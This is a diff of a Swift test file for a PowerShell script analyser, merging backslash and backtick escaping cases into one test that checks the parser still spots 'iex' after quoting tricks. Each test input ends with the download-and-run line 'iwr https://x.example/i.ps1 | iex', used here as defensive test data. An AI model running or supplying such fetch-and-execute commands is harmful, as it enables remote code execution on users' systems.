@@ -22,26 +22,16 @@ struct PowerShellEscapeTests {
     }
 
     @Test(
-        "a backslash before a closing quote closes the string, and what follows is judged",
+        "a backslash before a closing quote closes the string, and a backtick escapes or continues, as in PowerShell",
         arguments: [
             #"Write-Host "Reports in C:\reports\"; iwr https://x.example/i.ps1 | iex"#,
             #"Copy-Item "C:\a\" "C:\b\"; iwr https://x.example/i.ps1 | iex"#,
             #"Write-Host "it's C:\temp\" ; iwr https://x.example/i.ps1 | iex"#,
-        ])
-    func backslashes(script: String) {
-        let read = Self.facts(script)
-        #expect(read.problems == 0)
-        #expect(read.programs.contains("iex"), "\(read.programs)")
-    }
-
-    @Test(
-        "a backtick escapes a quote or continues a line, as in PowerShell",
-        arguments: [
             "Write-Host \"say `\"hi`\"\"; iwr https://x.example/i.ps1 | iex",
             "Write-Host `\n  hello; iwr https://x.example/i.ps1 | iex",
             "Write-Host 'C:\\x\\'; iwr https://x.example/i.ps1 | iex",
         ])
-    func backticks(script: String) {
+    func escapes(script: String) {
         let read = Self.facts(script)
         #expect(read.problems == 0)
         #expect(read.programs.contains("iex"), "\(read.programs)")
